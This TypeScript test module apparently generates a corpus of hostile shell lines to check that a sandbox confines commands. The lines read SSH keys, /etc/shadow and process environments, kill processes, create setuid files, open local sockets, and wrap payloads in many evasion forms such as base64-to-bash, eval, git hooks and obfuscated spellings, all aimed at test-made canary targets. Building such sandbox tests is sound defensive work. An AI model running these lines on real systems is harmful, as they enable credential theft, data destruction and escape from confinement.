// Command lines that try to change or reach something outside, in every disguise that is known to us.
import type { CanaryPlace, Listeners } from './canary-place.ts';
import { FURTHER_LINES } from './further-hostile-lines.ts';
import { ODD_LINES } from './odd-hostile-lines.ts';
import { RARE_LINES } from './rare-hostile-lines.ts';

/** Targets of the lines. All of them are made for the test: a line that works harms nothing else. */
export interface Targets {
  readonly out: string;
  readonly cwd: string;
  readonly port: number;
  readonly port6: number;
  readonly udpPort: number;
  /** Name of an abstract socket. */
  readonly abstract: string;
  readonly token: string;
  readonly victim: number;
}

export function targetsOf(
  { out, cwd, token, victim }: CanaryPlace,
  { port, port6, udpPort, abstract }: Listeners,
): Targets {
  return { out, cwd, port, port6, udpPort, abstract, token, victim: victim.pid ?? 0 };
}

type Make = (targets: Targets) => string;
type Carry = (payload: string, targets: Targets) => string;

/** Simple commands with an effect outside, without quotes: usable inside every other line. */
const PAYLOADS: readonly Make[] = [
  ({ out }) => `touch ${out}/pwned`,
  ({ out }) => `cp src/a.txt ${out}/target`,
  ({ out }) => `rm -f ${out}/target`,
  ({ out }) => `chmod 777 ${out}/target`,
  ({ out }) => `mv ${out}/target ${out}/moved`,
  ({ out }) => `truncate -s 0 ${out}/target`,
  ({ out }) => `mkdir ${out}/made`,
  ({ out }) => `ln -sf /etc/hostname ${out}/target`,
  ({ out }) => `touch -d 2001-01-01 ${out}/target`,
  ({ out }) => `tee ${out}/target`,
  ({ out }) => `dd if=src/a.txt of=${out}/target`,
  ({ out }) => `cat ${out}/secret`,
  ({ out }) => `git init -q ${out}/repo`,
  () => 'touch ../out/pwned',
  () => 'cat ../out/home/.ssh/id_rsa',
  () => 'install -m 4755 /bin/true s',
  () => 'cp /bin/true s4; chmod 6755 s4',
  ({ port }) => `curl -s -m 1 http://127.0.0.1:${port}/`,
  ({ token }) => `setsid sleep ${token}`,
  ({ token }) => `nohup sleep ${token}`,
  ({ victim }) => `kill -9 ${victim}`,
  ({ victim }) => `cat /proc/${victim}/environ`,
  ({ token }) => `touch /dev/shm/troupe-canary-${token}`,
  ({ token }) => `touch /tmp/troupe-canary-${token}`,
  () => 'chmod 777 /dev/full /dev/stdin /proc/uptime',
  () => 'dd if=src/a.txt of=pipe',
  () => 'dd if=feed bs=17 count=1',
];

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const doubled = (text: string): string => `"${text}"`;
const words = (text: string): string => text.split(';')[0] ?? text;

/** Ways to make a shell, or a program that a shell starts, run a command. */
const CARRIERS: readonly Carry[] = [
  (p) => p,
  (p) => `ls; ${p}`,
  (p) => `ls && ${p}`,
  (p) => `ls & ${p}`,
  (p) => `ls\n${p}`,
  (p) => `ls | ${words(p)}`,
  (p) => `false || ${p}`,
  (p) => `( ${p} )`,
  (p) => `{ ${p}; }`,
  (p) => `! ${words(p)}`,
  (p) => `time ${words(p)}`,
  (p) => `if true; then ${p}; fi`,
  (p) => `while ${p}; do break; done`,
  (p) => `for i in 1; do ${p}; done`,
  (p) => `case x in *) ${p};; esac`,
  (p) => `f() { ${p}; }; f`,
  (p) => `echo() { ${p}; }; echo hi`,
  (p) => `ls() { ${p}; }; ls`,
  (p) => `alias ls=${quoted(p)}\nls`,
  (p) => `trap ${quoted(p)} EXIT`,
  (p) => `coproc ${words(p)}; wait`,
  (p) => `echo "$( ${p} )"`,
  (p) => 'echo `' + p + '`',
  (p) => `: \${x:=$( ${p} )}`,
  (p) => `cat <( ${p} )`,
  (p) => `cat < <( ${p} )`,
  (p) => `cat <<E\n$( ${p} )\nE`,
  (p) => `[[ -n $( ${p} ) ]]`,
  (p) => `echo $(( $( ${p} )0 ))`,
  (p) => `x[$( ${p} )0]=1`,
  (p) => `sh -c ${quoted(p)}`,
  (p) => `bash -c -- ${quoted(p)}`,
  (p) => `bash -c -x ${quoted(p)}`,
  (p) => `bash --norc -ec ${quoted(p)}`,
  (p) => `eval ${quoted(p)}`,
  (p) => `eval -- ${quoted(p)}`,
  (p) => `builtin eval ${quoted(p)}`,
  (p) => `command ${words(p)}`,
  (p) => `exec ${words(p)}`,
  (p) => `printf %s ${quoted(p)} | sh`,
  (p) => `base64 -d <<< ${Buffer.from(p).toString('base64')} | bash`,
  (p) => `source <(echo ${quoted(p)})`,
  (p) => `. /dev/stdin <<< ${quoted(p)}`,
  (p) => `x=${quoted(`1 ${words(p)}`)}; env a=$x ls`,
  (p) => 'env a=`echo 1 ' + words(p) + '` ls',
  (p) => `env -S ${quoted(words(p))}`,
  (p) => `env - PATH=/usr/bin:/bin ${words(p)}`,
  (p) => `nice ${words(p)}`,
  (p) => `timeout 2 ${words(p)}`,
  (p) => `stdbuf -o0 ${words(p)}`,
  (p) => `nohup ${words(p)}`,
  (p) => `setsid -w ${words(p)}`,
  (p) => `xargs -I{} ${words(p)} < src/a.txt`,
  (p) => `echo a | xargs sh -c ${quoted(p)}`,
  (p) => `find src -name a.txt -exec ${words(p)} \\;`,
  (p) => `find src -name a.txt -ok sh -c ${quoted(p)} \\; < /dev/null`,
  (p) => `find src -maxdepth 0 -execdir sh -c ${quoted(p)} \\;`,
  (p) => `sed -- ${quoted(`1e ${words(p)}`)} src/a.txt -e p`,
  (p) => `sed ${quoted(`1e ${words(p)}`)} -ie s/a/b/ src/a.txt`,
  (p) => `sed -n ${quoted(`s/.*/${words(p).replaceAll('/', '\\/')}/e`)} src/a.txt`,
  (p) => `awk ${quoted(`BEGIN { system("${p}") }`)}`,
  (p) => `awk ${quoted(`BEGIN { "${p}" | getline }`)}`,
  (p) => `awk ${quoted(`BEGIN { print "" | "${p}" }`)}`,
  (p) => `python3 -c ${quoted(`import os; os.system("${p}")`)}`,
  (p) => `perl -e ${quoted(`system("${p}")`)}`,
  (p) => `perl -ne ${quoted(`\`${p}\``)} src/a.txt`,
  (p) => `make -f - <<< ${quoted(`all:; ${p}`)}`,
  (p) => `tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=${quoted(p)} src`,
  (p) => `tar -cf /dev/null -I ${quoted(`sh -c "${p}"`)} src`,
  (p) => `split --filter=${quoted(p)} src/a.txt`,
  (p) => `sort --compress-program=${quoted(`sh -c "${p}"`)} -S1 src/a.txt`,
  (p) => `LESSOPEN=${quoted(`|${p}`)} less src/a.txt`,
  (p) => `git -c core.fsmonitor=${quoted(p)} status`,
  (p) => `git -c alias.x=${quoted(`!${p}`)} x`,
  (p) => `git -c core.pager=${quoted(p)} -p log`,
  (p) => `git ls-remote --upload-pack=${quoted(p)} .`,
  (p) => `git fetch --upload-pack=${quoted(p)} . x`,
  (p) => `git push --receive-pack=${quoted(p)} . x`,
  (p) => `git grep -O${quoted(`sh -c "${p}"`)} hello`,
  (p) => `GIT_SSH_COMMAND=${quoted(p)} git ls-remote ssh://x/y`,
  (p) => `GIT_EXTERNAL_DIFF=${quoted(p)} git diff --no-index src/a.txt package.json`,
  (p) => `PAGER=${quoted(p)} git --paginate help`,
  (p) => `BASH_ENV=<(echo ${quoted(p)}) bash -c true`,
  (p) => `PROMPT_COMMAND=${quoted(p)} bash -i < /dev/null`,
  (p) => `mapfile -C ${quoted(`${p} #`)} -c 1 < src/a.txt`,
  (p) => `${'ls;'.repeat(60)}${p}`,
  (p) => `vi -es -c ${quoted(`!${p}`)} -c q`,
  (p) => `ed -s src/a.txt <<< ${quoted(`!${p}`)}`,
  (p) => `script -qc ${quoted(p)} /dev/null`,
  (p) => `setpriv --no-new-privs ${words(p)}`,
  (p) => `unshare -Ur sh -c ${quoted(p)}`,
  (p) => `unshare -m sh -c ${doubled(`mount -o remount,rw / ; ${p}`)}`,
  (p) => `nsenter -t 1 -m ${words(p)}`,
  (p) => `sudo -n ${words(p)}`,
  (p) => `node -e ${quoted(`require("child_process").execSync("${p}")`)}`,
];

/** Ways to write the same words. */
const SPELLINGS: readonly ((line: string) => string)[] = [
  (line) => line,
  (line) =>
    line.replace(
      /\b(touch|cp|rm|chmod|mv|cat|curl|kill|tee|git)\b/,
      (name) => `${name[0]}''${name.slice(1)}`,
    ),
  (line) => line.replace(/\b(touch|cp|rm|chmod|mv|cat|curl|kill|tee|git)\b/, (name) => `\\${name}`),
  (line) => line.replace(' ', '${IFS}'),
  (line) => line.replace(' ', ' \\\n'),
  (line) => `LANG=C ${line}`,
  (line) => ` # a comment\n${line} # another`,
  (line) => `cd src && cd .. && ${line}`,
  (line) => `set +e; ${line}; true`,
  (line) =>
    line.replace(
      /\b(touch|cp|rm|cat)\b/,
      (name) => `$'\\x${name.charCodeAt(0).toString(16)}${name.slice(1)}'`,
    ),
];

/** Complete lines with an effect outside. */
const WHOLE: readonly Make[] = [
  ({ out }) => `sed --in-place='${out}/*' p src/a.txt`,
  ({ out }) => `sed -n 'w ${out}/target' src/a.txt`,
  ({ out }) => `sed 's/h/j/w ${out}/target' src/a.txt`,
  () => 'cd vendor/lib && git status',
  () => 'cd vendor/lib; git log; git diff; git ls-files',
  () => 'git -C vendor/lib status',
  () => 'awk s* src/a.txt',
  () => 'sed s,x*,b,g src/a.txt',
  ({ out }) => `uniq src/a.txt ${out}/target`,
  () => 'cd src && uniq a.tx? ../../out/target',
  ({ out }) => `printf 'abc%n' ${out}/target; ls`,
  ({ out }) => `find ${out} -delete`,
  ({ out }) => `find -L ${out} -type f -delete`,
  ({ out }) => `find src -fprintf ${out}/target x`,
  ({ out }) => `find src -fls ${out}/target`,
  ({ out }) => `chmod -R -x ${out}`,
  ({ out }) => `chmod --reference=src ${out}/target`,
  ({ out }) => `mv -t ${out} src/a.txt`,
  ({ out }) => `cp -t ${out} src/a.txt`,
  ({ out }) => `cd ${out} && cat secret`,
  ({ out }) => `cd ${out}/home && cat .ssh/id_rsa`,
  ({ victim }) => `cd /proc/${victim} && cat environ`,
  () => 'cd /etc && cat shadow',
  ({ port }) => `awk 1 /inet/tcp/0/127.0.0.1/${port}`,
  ({ port }) => `echo x > /dev/tcp/127.0.0.1/${port}`,
  ({ port }) => `exec 3<>/dev/tcp/127.0.0.1/${port}; echo x >&3`,
  ({ port }) => `bash -c 'cat < /dev/tcp/127.0.0.1/${port}'`,
  ({ port }) => `git clone http://127.0.0.1:${port}/x y`,
  ({ port }) => `python3 -c 'import urllib.request as u; u.urlopen("http://127.0.0.1:${port}")'`,
  ({ out }) => `python3 -c 'import socket as s; c = s.socket(s.AF_UNIX); c.connect("${out}/socket")'`,
  ({ out }) => `sort -o ${out}/target src/a.txt`,
  ({ out }) => `tee ${out}/target < src/a.txt`,
  ({ out }) => `echo x > ${out}/target`,
  ({ out }) => `echo x >> ${out}/target`,
  ({ out }) => `echo x >| ${out}/target`,
  ({ out }) => `echo x >& ${out}/target`,
  ({ out }) => `ls &> ${out}/target`,
  ({ out }) => `: > ${out}/target`,
  ({ out }) => `exec 3>${out}/target; echo x >&3`,
  ({ out }) => `ln -s ${out}/target l1; echo x > l1`,
  ({ out }) => `ln -s ${out} l2; touch l2/pwned`,
  ({ out }) => `ln ${out}/target l3; echo x > l3`,
  ({ out }) => `mkdir -p d; cd d; ln -s ${out} e; cd e; touch pwned`,
  () => 'echo x > link',
  () => 'cat link',
  () => 'head -n5 link',
  () => 'cat way/secret',
  () => 'ls way',
  () => 'cat src/../../out/secret',
  () => 'cat ../out/secret',
  () => 'tail -c99 ../out/secret',
  () => 'wc -l ../out/secret',
  ({ out }) => `cat ${out}/secret`,
  ({ cwd }) => `cat ${cwd}/../out/secret`,
  () => 'ls -R ..',
  () => 'cat /proc/self/root/etc/shadow',
  () => 'cat /proc/1/environ',
  () => 'cat /proc/self/environ',
  () => 'env',
  () => 'set',
  () => 'export -p',
  ({ out }) => `git archive -o ${out}/target HEAD`,
  ({ out }) => `git -C ${out} init`,
  ({ out }) => `git diff --output=${out}/target`,
  ({ out }) => `git log --output=${out}/target`,
  ({ out }) => `git --git-dir=${out} init`,
  ({ out }) => `GIT_DIR=${out}/g git init`,
  ({ out }) => `GIT_TRACE=${out}/target git status`,
  ({ out }) => `tar -cf ${out}/target src`,
  ({ out }) => `tar -C ${out} -xf <(tar -c src)`,
  ({ out }) => `rsync -a src/ ${out}/`,
  ({ out }) => `install src/a.txt ${out}/target`,
  ({ out }) => `xxd src/a.txt ${out}/target`,
  ({ out }) => `date -r src/a.txt > ${out}/target`,
  ({ out }) => `diff src/a.txt package.json > ${out}/target`,
  ({ out }) => `file -C -m src/a.txt; cat ${out}/secret`,
  () => 'mknod dev c 1 3; mkfifo s5; chmod u+s s5',
  () => 'umask 0; python3 -c "import os; os.open(chr(115), 65, 0o4755)"',
  () => 'mount -t tmpfs none src',
  () => 'echo x > /proc/sys/kernel/core_pattern.none',
  () => 'echo hi > .git/hooks/post-checkout',
  () => 'git config core.hooksPath /tmp',
];

/** Further complete lines: each is in the corpus once, as it stands, in place of a generated composition. */
const SINGLE: readonly Make[] = [
  // Programs with a language of their own
  ({ out }) => `awk 'BEGIN { printf "x" > "${out}/target" }'`,
  ({ out }) => `awk 'BEGIN { while (("cat ${out}/secret" | getline l) > 0) print l }'`,
  ({ out }) => `awk '{ print > ARGV[2] }' src/a.txt ${out}/target`,
  ({ out }) => `awk -v f=${out}/secret 'BEGIN { while ((getline l < f) > 0) print l }'`,
  ({ out }) => `awk -f <(echo 'BEGIN { system("touch ${out}/pwned") }')`,
  ({ out }) => `awk -i inplace '{ print 1 }' ${out}/target`,
  ({ port }) => `gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/${port}"; print "x" |& s; s |& getline }'`,
  ({ out }) => `sed -n '1{w ${out}/target\n}' src/a.txt`,
  ({ out }) => `sed 'r ${out}/secret' src/a.txt`,
  ({ out }) => `sed 'R ${out}/secret' src/a.txt`,
  ({ out }) => `sed -s -n 'F;p' ${out}/secret`,
  ({ out }) => `sed -i.bak s/o/0/ ${out}/target`,
  ({ out }) => `sed --follow-symlinks -i s/./x/ link ${out}/target`,
  ({ out }) => `sed -f <(echo '1e touch ${out}/pwned') src/a.txt`,
  ({ out }) => `sed -E 's~.*~touch ${out}/pwned~e' src/a.txt`,
  ({ out }) => `sed '$!N;1e touch ${out}/pwned' src/a.txt`,
  ({ out }) => `perl -pi -e 's/./x/' ${out}/target`,
  ({ out }) => `perl -e 'open F, ">", "${out}/target"; print F 1'`,
  ({ out }) => `perl -e 'open(F, "${out}/secret|"); open(G, "<${out}/secret"); print <G>'`,
  ({ out }) => `perl -Mre=eval -e '"a" =~ /(?{ unlink "${out}/target" })a/'`,
  ({ port }) => `perl -MIO::Socket -e 'IO::Socket::INET->new("127.0.0.1:${port}")'`,
  ({ victim }) => `perl -e 'kill 9, ${victim}'`,
  ({ out }) => `python3 -c 'open("${out}/target", "w").write("x")'`,
  ({ out }) => `python3 -c 'print(open("${out}/secret").read())'`,
  ({ out }) => `python3 - <<E\nimport os\nos.rename("${out}/target", "${out}/moved")\nE`,
  ({ out }) => `python3 -c 'import ctypes; ctypes.CDLL(None).unlink(b"${out}/target")'`,
  ({ out }) =>
    `python3 -c 'import os; os.setxattr("${out}/target", "user.x", b"1"); os.utime("${out}/target")'`,
  ({ victim }) => `python3 -c 'import os; os.kill(${victim}, 9)'`,
  ({ victim }) => `python3 -c 'import os, signal; signal.pidfd_send_signal(os.pidfd_open(${victim}), 9)'`,
  ({ token }) =>
    `python3 -c 'import os; os.fork() or (os.setsid(), os.execlp("sleep", "sleep", "${token}"))'`,
  ({ port }) =>
    `python3 -c 'import socket as s; s.socket(s.AF_INET6).connect(("::ffff:127.0.0.1", ${port}))'`,
  ({ port }) => `python3 -c 'import socket as s; s.create_connection(("localhost", ${port})).send(b"x")'`,
  () => `python3 -c 'import socket as s; s.socket(s.AF_VSOCK, s.SOCK_STREAM).connect((2, 1))'`,
  ({ out }) => `python3 -m http.server --help; python3 -m zipfile -c ${out}/target src`,
  ({ out }) => `python3 -m tarfile -c ${out}/target src`,
  ({ out }) => `python3 -m json.tool package.json ${out}/target`,
  ({ out }) => `python3 -X importtime -c 1 2> ${out}/target`,
  ({ out }) => `PYTHONSTARTUP=${out}/secret python3 -i < /dev/null`,
  ({ out }) => `PYTHONPYCACHEPREFIX=${out} python3 -m compileall -q src`,
  ({ out }) => `node -e 'fs.writeFileSync("${out}/target", "")'`,
  ({ out }) => `node -p 'fs.readFileSync("${out}/secret", "utf8")'`,
  ({ out }) => `node --require ${out}/secret -e 1`,
  ({ out }) =>
    `NODE_OPTIONS='--redirect-warnings=${out}/target --trace-warnings' node -e 'process.emitWarning(1+"")'`,
  ({ out }) => `node --cpu-prof --cpu-prof-dir=${out} -e 1`,
  ({ port }) => `node -e 'fetch("http://127.0.0.1:${port}").catch(() => {})'`,
  ({ victim }) => `node -e 'process.kill(${victim}, 9)'`,
  // Operands and options that write
  ({ out }) => `cp --backup=numbered src/a.txt ${out}/target`,
  ({ out }) => `cp -as src ${out}/linked`,
  ({ out }) => `cp --attributes-only --preserve=mode src/a.txt ${out}/target`,
  ({ out }) => `cp --parents src/a.txt ${out}`,
  () => 'cp -P way/secret . && cat secret',
  ({ out }) => `ln -f src/a.txt ${out}/target`,
  ({ out }) => `ln -sfn src ${out}/link2`,
  ({ out }) => `mv -b src/a.txt ${out}/target`,
  ({ out }) => `mv --exchange src/a.txt ${out}/target || mv -n src ${out}/`,
  ({ out }) => `rm -rf -- ${out}/home`,
  ({ out }) => `rmdir -p ${out}/empty`,
  ({ out }) => `unlink ${out}/target`,
  ({ out }) => `shred -u ${out}/target`,
  ({ out }) => `truncate -r src/a.txt ${out}/target`,
  ({ out }) => `fallocate -l 9 ${out}/target`,
  ({ out }) => `touch -r src/a.txt ${out}/target`,
  ({ out }) => `touch -h ${out}/target`,
  ({ out }) => `chmod a-w,u+s ${out}/target`,
  ({ out }) => `chmod -c g+s ${out}`,
  ({ out }) => `chown -h nobody ${out}/target`,
  ({ out }) => `chgrp 12345 ${out}/target`,
  ({ out }) => `setfacl -m u:1:rwx ${out}/target`,
  ({ out }) => `chattr +i ${out}/target; setfattr -n user.x -v 1 ${out}/target`,
  ({ out }) => `setcap cap_setuid+ep ${out}/target`,
  ({ out }) => `mkfifo ${out}/fifo`,
  ({ out }) => `mknod ${out}/null c 1 3`,
  ({ out }) => `mktemp -p ${out}`,
  ({ out }) => `TMPDIR=${out} mktemp`,
  ({ out }) => `dd if=/dev/zero of=${out}/target bs=1 count=1 conv=notrunc`,
  ({ out }) => `split -b1 src/a.txt ${out}/part`,
  ({ out }) => `csplit -f ${out}/part src/a.txt 1`,
  ({ out }) => `tee -a ${out}/target <<< x`,
  ({ out }) => `sort src/a.txt -uo${out}/target`,
  ({ out }) => `sort -T ${out} -S1b src/a.txt`,
  ({ out }) => `sort --files0-from=<(printf '${out}/secret\\0')`,
  ({ out }) => `wc --files0-from=<(printf '${out}/secret\\0'); cat ${out}/sec*`,
  ({ out }) => `uniq -c src/a.txt ${out}/target`,
  ({ out }) => `shuf -o ${out}/target src/a.txt`,
  ({ out }) => `iconv -o ${out}/target src/a.txt`,
  ({ out }) => `gzip -c src/a.txt > ${out}/target; gzip -f ${out}/target`,
  ({ out }) => `xz -k -S .x ${out}/target; bzip2 -k ${out}/target`,
  ({ out }) => `tar -xPf <(tar -cP ${out}/target) --overwrite`,
  ({ out }) => `tar -cf src/t.tar --remove-files ${out}/target`,
  ({ out }) => `tar -cf - --index-file=${out}/target -v src`,
  ({ out }) => `tar --use-compress-program='touch ${out}/pwned;' -cf - src`,
  ({ out }) => `tar -cf - src | tar -xf - --to-command='touch ${out}/pwned'`,
  ({ out }) => `cpio -p ${out} <<< src/a.txt`,
  ({ out }) => `patch ${out}/target <<< ''; patch -o ${out}/target src/a.txt < /dev/null`,
  ({ out }) => `diff --to-file=${out}/secret src/a.txt`,
  ({ out }) => `cmp -l ${out}/secret src/a.txt; comm ${out}/secret src/a.txt`,
  ({ out }) => `paste ${out}/secret; nl ${out}/secret; tac ${out}/secret; fold ${out}/secret`,
  ({ out }) => `od -c -An -w99 ${out}/secret | tr -d ' '`,
  ({ out }) => `base64 -w0 ${out}/secret | base64 -d`,
  ({ out }) => `dd if=${out}/secret status=none`,
  ({ out }) => `grep -r . ${out}`,
  ({ out }) => `grep -f ${out}/secret ${out}/secret`,
  ({ out }) => `find ${out} -type f -exec cat {} +`,
  ({ out }) => `find src -maxdepth 0 -fprint0 ${out}/target`,
  ({ out }) => `find -files0-from <(printf '${out}\\0') -delete`,
  ({ out }) => `xargs -a ${out}/secret echo`,
  ({ out }) => `xargs -P2 -n1 rm -f <<< ${out}/target`,
  ({ out }) => `jq -Rr . ${out}/secret`,
  ({ out }) => `jq -n --rawfile x ${out}/secret '$x'`,
  // The shell itself
  ({ out }) => `read -r l < ${out}/secret; echo "$l"`,
  ({ out }) => `mapfile -t l < ${out}/secret; printf '%s\\n' "\${l[@]}"`,
  ({ out }) => `echo "$(< ${out}/secret)"`,
  ({ out }) => `while read -r l; do echo "$l"; done < ${out}/secret`,
  ({ out }) => `exec 9< ${out}/secret; cat <&9`,
  ({ out }) => `cat < ${out}/sec[r]et`,
  ({ out }) => `d=${out}; cat "$d"/secret`,
  ({ out }) => `pushd ${out} > /dev/null; cat secret; popd`,
  ({ out }) => `CDPATH=${out} cd home && cat .ssh/id_rsa`,
  ({ out }) => `HOME=${out}/home; cat ~/.ssh/id_rsa`,
  ({ out }) => `HISTFILE=${out}/target bash -ic 'echo x; history -w' < /dev/null`,
  ({ out }) => `set -o history; history -s x; history -w ${out}/target`,
  ({ out }) => `exec > ${out}/target; echo x`,
  ({ out }) => `{ echo x; } 7> ${out}/target >&7`,
  ({ out }) => `exec {fd}<> ${out}/target; echo x >&$fd`,
  ({ out }) => `set -x; BASH_XTRACEFD=9; ls 9> ${out}/target`,
  ({ out }) => `PS4='$(touch ${out}/pwned)'; set -x; ls`,
  ({ out }) => `PATH=.:$PATH; printf '#!/bin/sh\\ntouch ${out}/pwned' > lss; chmod +x lss; lss`,
  ({ out }) => `hash -p /bin/touch ls; ls ${out}/pwned`,
  ({ out }) => `enable -f ${out}/secret x; enable -n echo; touch ${out}/pwned`,
  ({ out }) => `declare -n r='a[$(touch ${out}/pwned)]'; r=1; echo $((r))`,
  ({ out }) => `x='a[$(touch ${out}/pwned)]'; (( x )); [[ x -eq 1 ]]`,
  ({ out }) => `unset 'a[$(touch ${out}/pwned)]'; test -v 'a[$(touch ${out}/pwned)]'`,
  ({ out }) => `printf -v 'a[$(touch ${out}/pwned)]' x`,
  ({ out }) => `x='$(touch ${out}/pwned)'; echo "\${x@P}"`,
  ({ out }) => `trap 'touch ${out}/pwned' DEBUG; ls`,
  ({ out }) => `trap 'touch ${out}/pwned' ERR; false`,
  ({ out }) => `command_not_found_handle() { touch ${out}/pwned; }; no-such-program`,
  ({ out }) => `shopt -s expand_aliases\nalias cat='touch ${out}/pwned #'\ncat src/a.txt`,
  ({ out }) => `export -f ls 2> /dev/null; ls() { touch ${out}/pwned; }; export -f ls; bash -c ls`,
  ({ out }) => `env 'BASH_FUNC_ls%%=() { touch ${out}/pwned; }' bash -c ls`,
  ({ out }) => `bash --rcfile <(echo touch ${out}/pwned) -ic true < /dev/null`,
  ({ out }) => `bash -s <<< 'touch ${out}/pwned'`,
  ({ out }) => `dash -c 'touch ${out}/pwned'; busybox sh -c 'touch ${out}/pwned'`,
  ({ out }) => `/lib64/ld-linux-x86-64.so.2 /bin/touch ${out}/pwned`,
  ({ out }) => `LD_PRELOAD=./x.so LD_DEBUG=all LD_DEBUG_OUTPUT=${out}/target ls`,
  ({ out }) => `echo -e '\\x74ouch ${out}/pwned' | . /dev/stdin`,
  ({ out }) => `$'\\164\\157\\165\\143\\150' ${out}/pwned`,
  ({ out }) => `t{ou,}ch ${out}/pwned; {touch,${out}/pwned}`,
  ({ out }) => `a=tou b=ch; $a$b ${out}/pwned`,
  ({ out }) => `/???/t??ch ${out}/pwned; /bin/t[o]uch ${out}/pwned`,
  // Git
  ({ out }) => `git -c core.sshCommand='touch ${out}/pwned' fetch ssh://x/y`,
  ({ out }) => `git -c diff.external='touch ${out}/pwned' diff --no-index src/a.txt package.json`,
  ({ out }) => `git -c credential.helper='!touch ${out}/pwned' credential fill <<< url=http://x`,
  ({ out }) => `git -c core.editor='touch ${out}/pwned' commit --allow-empty; git -c gpg.program=x commit -S`,
  ({ out }) => `git --exec-path=${out} status; git worktree add ${out}/tree`,
  ({ out }) => `git clone -q . ${out}/copy; git bundle create ${out}/target --all`,
  ({ out }) =>
    `GIT_PAGER='touch ${out}/pwned' git -p status; GIT_EDITOR='touch ${out}/pwned' git var GIT_EDITOR`,
  ({ out }) => `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!touch ${out}/pwned' git x`,
  ({ out }) =>
    `GIT_CONFIG_GLOBAL=${out}/target git config --global a.b c; HOME=${out} git config --global a.b c`,
  ({ out }) => `GIT_TRACE2_EVENT=${out}/target git --version; GIT_INDEX_FILE=${out}/target git add src`,
  // Processes, namespaces and the kernel
  ({ token }) => `(sleep ${token} &) ; disown -a`,
  ({ token }) =>
    `bash -c 'exec -a x sleep ${token} &' ; sleep ${token} < /dev/null > /dev/null 2>&1 & disown`,
  ({ victim }) => `kill -STOP ${victim}; kill -KILL ${victim}; renice 19 ${victim}`,
  ({ victim }) => `cat /proc/${victim}/root/proc/${victim}/environ; ls -l /proc/${victim}/fd`,
  ({ victim, out }) =>
    `cat /proc/${victim}/root${'$'}PWD/../out/secret; cat /proc/${victim}/cwd/../out/secret; ls ${out}`,
  ({ out }) => `chroot / touch ${out}/pwned; unshare -r chroot / touch ${out}/pwned`,
  ({ out }) => `unshare -Urm sh -c 'mount --bind src ${out}; touch ${out}/pwned'`,
  ({ out }) => `mount -o remount,rw,bind ${out}; umount -l ${out}; touch ${out}/pwned`,
  ({ out }) => `bwrap --bind / / touch ${out}/pwned`,
  ({ out }) => `systemd-run --user touch ${out}/pwned; at now <<< 'touch ${out}/pwned'; crontab -l`,
  ({ out }) => `docker run -v ${out}:/o alpine touch /o/pwned; ssh localhost touch ${out}/pwned`,
  ({ out }) => `su -c 'touch ${out}/pwned'; doas touch ${out}/pwned; pkexec touch ${out}/pwned`,
  ({ port }) =>
    `nc -w1 127.0.0.1 ${port} <<< x; socat - TCP:127.0.0.1:${port} <<< x; wget -qT1 -O- 127.0.0.1:${port}`,
  ({ port }) =>
    `curl -sm1 --proxy 127.0.0.1:${port} http://x/; openssl s_client -connect 127.0.0.1:${port} < /dev/null`,
  ({ port }) => `exec 5<> /dev/udp/127.0.0.1/${port}; echo x >&5; cat < /dev/tcp/localhost/${port}`,
  () => 'cp /bin/sh s6 && chmod 4755 s6; install -m 2755 /bin/true s7; umask 0; mkdir -m 2777 s8',
  ({ token }) => `echo x | tee /tmp/troupe-canary-${'${t:-'}${token}} /dev/shm/troupe-canary-${token}`,
];

/** Harmless lines, which show that lines run at all. */
export const HARMLESS: readonly string[] = [
  'ls',
  'pwd',
  'cat src/a.txt',
  'ls -la src',
  'head -n1 package.json',
  'wc -l src/a.txt',
];

/** Lines whose effect shows wherever no limits hold. */
export function controlLines(targets: Targets): readonly string[] {
  const lines = PAYLOADS.map((make) => make(targets)).filter((line) => !line.includes('/dev/full'));
  return lines.map((line) => (line.includes('sleep') ? `${line} > /dev/null 2>&1 &` : line));
}

/** All lines, without repetition: single and whole ones in several spellings, mixed with compositions in an order that mixes the parts. */
export function hostileLines(targets: Targets, count: number): readonly string[] {
  const lines = new Set<string>(WHOLE.map((make) => make(targets)));
  for (const spell of SPELLINGS.slice(1)) for (const make of WHOLE) lines.add(spell(make(targets)));
  let state = 1;
  const pick = <T>(from: readonly T[]): T => {
    state = (state * 48_271) % 2_147_483_647;
    return from[state % from.length] as T;
  };
  const whole = [
    ...[...ODD_LINES, ...RARE_LINES, ...FURTHER_LINES, ...SINGLE].map((make) => make(targets)),
    ...lines,
  ];
  const composed = new Set<string>();
  for (const carry of CARRIERS)
    for (const make of PAYLOADS.slice(0, 3)) composed.add(carry(make(targets), targets));
  for (let tries = 0; composed.size < count * 2 && tries < count * 40; tries++) {
    const line = pick(CARRIERS)(pick(PAYLOADS)(targets), targets);
    composed.add(pick(SPELLINGS)(tries % 5 === 0 ? pick(CARRIERS)(line, targets) : line));
  }
  // Every second line is a whole one, until all whole lines are used.
  const mixed = [...composed].flatMap((line, i) => (whole[i] === undefined ? [line] : [whole[i], line]));
  return [...new Set(mixed)].slice(0, count);
}
